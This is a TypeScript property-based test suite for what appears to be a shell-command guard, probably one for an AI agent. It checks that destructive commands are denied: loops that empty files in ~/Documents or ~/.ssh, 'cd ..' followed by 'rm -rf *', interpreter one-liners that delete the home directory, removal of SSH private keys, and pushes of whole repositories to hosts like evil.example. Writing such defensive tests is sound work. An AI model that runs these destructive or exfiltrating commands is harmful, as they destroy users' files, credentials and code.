// The shell classes the third red-team set found missing or over-flagged, as properties over
// their members (the emptying tool, the loop, the precious directory, the way of climbing out,
// the interpreter's string joining, the push's everything-flag, the service verb) rather than
// the set's examples. Fixed seeds and numRuns.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fc from 'fast-check';
import { decide, shell } from './helpers.js';

const q = (s: string): string => `'${s.replace(/'/g, `'\\''`)}'`;
const show = (cmd: string): string => {
  const d = decide(shell(cmd));
  return `${cmd} → ${d.verdict} ${d.patternName}: ${d.reason}`;
};
const verdict = (cmd: string) => decide(shell(cmd)).verdict;
const RUNNERS: ((c: string) => string)[] = [(c) => c, (c) => `bash -c ${q(c)}`, (c) => `sh -c ${q(c)}`, (c) => `env LC_ALL=C ${c}`];
const RUN = fc.constantFrom(...RUNNERS);
const VAR = fc.constantFrom('f', 'file', 'x', 'doc', 'F1');

// ---- 1. emptying every file of a precious directory, in a loop ---------------------------

/** Ways to empty (or overwrite) the file named by `$v`, each a destroyer of its content. */
const EMPTIERS: ((v: string) => string)[] = [
  (v) => `: > "$${v}"`,
  (v) => `> "$${v}"`,
  (v) => `echo -n > "\${${v}}"`,
  (v) => `printf '' > "$${v}"`,
  (v) => `truncate -s0 "$${v}"`,
  (v) => `truncate --size=0 "$${v}"`,
  (v) => `cp /dev/null "$${v}"`,
  (v) => `tee "$${v}" < /dev/null`,
  (v) => `dd if=/dev/null of="$${v}"`,
];
const PRECIOUS = fc.constantFrom('~/Documents', '~/Desktop', '$HOME/Pictures', '/home/dev/Downloads', '~/.ssh', '/etc');

// (A loop is shell syntax: it runs as is or inside a shell's -c string, not after `env`.)
const LOOP_RUN = fc.constantFrom(...RUNNERS.slice(0, 3), (c: string) => `zsh -c ${q(c)}`);

test('emptying every file of a precious directory in a loop is denied whatever the tool, variable or runner', () => {
  fc.assert(
    fc.property(fc.constantFrom(...EMPTIERS), VAR, PRECIOUS, fc.constantFrom('', './notes.txt '), LOOP_RUN, (empty, v, dir, before, run) => {
      const cmd = run(`for ${v} in ${before}${dir}/*; do ${empty(v)}; done`);
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 300, seed: 3301 },
  );
});

test('the same loops over project or scratch files, or writing new files beside the originals, are allowed', () => {
  fc.assert(
    fc.property(fc.constantFrom(...EMPTIERS), VAR, fc.constantFrom('./logs', 'build', '/tmp/run', 'src/generated'), LOOP_RUN, (empty, v, dir, run) => {
      const cmd = run(`for ${v} in ${dir}/*; do ${empty(v)}; done`);
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 200, seed: 3302 },
  );
  fc.assert(
    fc.property(VAR, PRECIOUS, fc.constantFrom('.html', '.bak', '.txt'), (v, dir, ext) => {
      const cmd = `for ${v} in ${dir}/*.md; do pandoc "$${v}" > "$${v}${ext}"; done`;
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 60, seed: 3303 },
  );
});

// ---- 2. a wildcard delete after climbing out of the project ------------------------------

const CLIMBS = fc.constantFrom('cd ..', 'cd ../..', 'cd "$PWD/.."', 'cd "$PWD/../.."', 'cd "$(dirname "$PWD")"', 'pushd ..', 'cd src/../..', 'cd ${PWD}/..');
const WILDCARD_RM = fc.constantFrom('rm -rf *', 'rm -rf -- *', 'rm -rf ./*', 'rm -fr *', 'rm -r --force *', 'find . -delete');

test('a wildcard delete after climbing out of the project is denied in any spelling of the climb', () => {
  fc.assert(
    fc.property(CLIMBS, WILDCARD_RM, fc.constantFrom(' && ', '; '), RUN, (climb, rm, sep, run) => {
      const cmd = run(`${climb}${sep}${rm}`);
      assert.equal(verdict(cmd), 'deny', show(cmd));
    }),
    { numRuns: 300, seed: 3304 },
  );
});

test('the same delete after moving into a project subdirectory is allowed', () => {
  fc.assert(
    fc.property(fc.constantFrom('cd build', 'cd "$PWD/build"', 'cd ./dist', 'cd src/gen', 'pushd "$PWD/out"'), WILDCARD_RM, RUN, (into, rm, run) => {
      const cmd = run(`${into} && ${rm}`);
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 150, seed: 3305 },
  );
});

// ---- 3. interpreter one-liners joining a shell string with the home directory ------------

/** [interpreter call, the language's way to join two strings, its home expression]. */
const LANGS: [(code: string) => string, (a: string, b: string) => string, string][] = [
  [(c) => `lua -e ${q(c)}`, (a, b) => `${a} .. ${b}`, 'os.getenv("HOME")'],
  [(c) => `luajit -e ${q(c)}`, (a, b) => `${a}..${b}`, 'os.getenv("HOME")'],
  [(c) => `php -r ${q(c)}`, (a, b) => `${a} . ${b}`, 'getenv("HOME")'],
  [(c) => `perl -e ${q(c)}`, (a, b) => `${a} . ${b}`, '$ENV{HOME}'],
  [(c) => `node -e ${q(c)}`, (a, b) => `${a} + ${b}`, 'os.homedir()'],
  [(c) => `python3 -c ${q(c)}`, (a, b) => `${a} + ${b}`, 'os.path.expanduser("~")'],
  [(c) => `Rscript -e ${q(c)}`, (a, b) => `paste(${a}, ${b})`, 'Sys.getenv("HOME")'],
];
const CALLS: Record<string, (s: string) => string> = {
  lua: (s) => `os.execute(${s})`,
  luajit: (s) => `io.popen(${s})`,
  php: (s) => `system(${s});`,
  perl: (s) => `system(${s})`,
  node: (s) => `require("child_process").execSync(${s})`,
  python3: (s) => `import os; os.system(${s})`,
  Rscript: (s) => `system(${s})`,
};

test('a recursive delete of the home directory built by joining strings is denied in each language', () => {
  fc.assert(
    fc.property(fc.constantFrom(...LANGS), fc.constantFrom('rm -rf', 'rm -fr', 'rm -r -f'), ([call, join, home], rm) => {
      const name = call('x').split(' ')[0];
      const cmd = call(CALLS[name](join(`"${rm}${name === 'Rscript' ? '' : ' '}"`, home)));
      assert.equal(verdict(cmd), 'deny', show(cmd));
      // Listing the same directory is harmless.
      const ls = call(CALLS[name](join(`"ls${name === 'Rscript' ? '' : ' '}"`, home)));
      assert.equal(verdict(ls), 'allow', show(ls));
    }),
    { numRuns: 100, seed: 3306 },
  );
});

// ---- 4. pushing the whole repository somewhere it was not set up with ---------------------

const EVERYTHING = fc.constantFrom('--all', '--branches', '--tags', '--mirror', '"refs/heads/*:refs/heads/*"');
const OUTSIDE = fc.constantFrom('https://github.com/anon-884/tmp.git', 'git@gitlab.com:x/y.git', 'ssh://git@evil.example/r.git', 'https://203.0.113.7/r.git');

test('pushing every branch or tag to a URL, or to a remote the line just added, is denied; to origin it is not', () => {
  fc.assert(
    fc.property(EVERYTHING, OUTSIDE, fc.constantFrom('backup', 'mirror', 'tmp', 'b2'), fc.boolean(), (flag, url, name, added) => {
      const cmd = added ? `git remote add ${name} ${url} && git push ${name} ${flag}` : `git push ${url} ${flag}`;
      assert.equal(verdict(cmd), 'deny', show(cmd));
      if (flag !== '--mirror') {
        const own = `git push origin ${flag}`;
        assert.equal(verdict(own), 'allow', show(own));
      }
    }),
    { numRuns: 200, seed: 3307 },
  );
});

// ---- 5. service administration as root ------------------------------------------------------

test('looking at or restarting an application service as root is routine; stopping, disabling or masking is warned', () => {
  const unit = fc.constantFrom('nginx', 'nginx.service', 'php8.2-fpm', 'postgresql', 'redis-server', 'myapp');
  fc.assert(
    fc.property(fc.constantFrom('sudo', 'doas'), fc.constantFrom('restart', 'reload', 'start', 'status', 'try-restart'), unit, (su, verb, u) => {
      const cmd = `${su} systemctl ${verb} ${u}`;
      assert.equal(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 120, seed: 3308 },
  );
  fc.assert(
    fc.property(fc.constantFrom('stop', 'disable', 'mask', 'kill'), unit, (verb, u) => {
      const cmd = `sudo systemctl ${verb} ${u}`;
      assert.notEqual(verdict(cmd), 'allow', show(cmd));
    }),
    { numRuns: 60, seed: 3309 },
  );
});

// ---- 6. deleting a private key, any remover --------------------------------------------------

test('deleting a private key is denied whatever program removes it; its public half is not', () => {
  const remover = fc.constantFrom('rm', 'rm -f', 'unlink', 'busybox rm', 'srm', 'command rm', 'sudo rm');
  const key = fc.constantFrom('~/.ssh/id_rsa', '~/.ssh/id_ed25519', '$HOME/.ssh/id_ecdsa', '/home/dev/.ssh/id_ed25519_sk', '~/.ssh/deploy.pem');
  fc.assert(
    fc.property(remover, key, RUN, (rm, k, run) => {
      const cmd = run(`${rm} ${k}`);
      assert.equal(verdict(cmd), 'deny', show(cmd));
      if (!k.endsWith('.pem')) {
        const pub = run(`${rm} ${k}.pub`);
        assert.notEqual(verdict(pub), 'deny', show(pub));
      }
    }),
    { numRuns: 150, seed: 3310 },
  );
});
